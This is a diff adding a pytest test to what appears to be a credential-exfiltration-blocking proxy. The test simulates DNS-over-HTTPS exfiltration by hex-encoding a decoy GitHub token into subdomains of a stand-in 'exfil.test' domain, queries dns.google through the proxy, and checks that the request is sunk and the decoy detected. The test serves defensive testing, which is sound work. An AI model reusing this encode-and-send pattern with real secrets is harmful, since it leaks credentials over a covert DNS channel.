@@ -468,6 +468,31 @@ def test_each_port_attributes_its_label(proxy: Proxy) -> None:
 # --------------------------------------------------------------------------- registries
 
 
+def test_dns_over_https_is_named_with_the_name_it_asked_and_searched(proxy: Proxy) -> None:
+    import dns.message
+
+    token = proxy.decoy("GITHUB_TOKEN").value
+    name = f"{token.encode().hex()[:60]}.{token.encode().hex()[60:]}.exfil.test"
+    query = dns.message.make_query(name, "A")
+    query.id = 0
+    encoded = base64.urlsafe_b64encode(query.to_wire()).decode().rstrip("=")
+    with session() as s:
+        s.get(
+            "https://dns.google/dns-query",
+            params={"dns": encoded},
+            headers={"accept": "application/dns-message"},
+            proxies=proxy.proxies(),
+            verify=str(proxy.bundle),
+            timeout=10,
+        )
+        s.get("https://dns.google/", proxies=proxy.proxies(), verify=str(proxy.bundle))
+    doh, page = proxy.records(lambda r: r["host"] == "dns.google")
+    assert (doh["dns_name"], doh["action"]) == (name, "sunk")  # never reached the resolver
+    assert doh["decoy_seen"] == ["GITHUB_TOKEN"]
+    assert "doh:hex" in doh["decoy_where"]
+    assert "dns_name" not in page
+
+
 @pytest.mark.parametrize("method", ["PUT", "POST"])
 def test_a_write_to_a_registry_is_answered_here_never_forwarded(proxy: Proxy, method: str) -> None:
     # What `npm publish` does with a stolen token: the tarball is base64 in a JSON body.
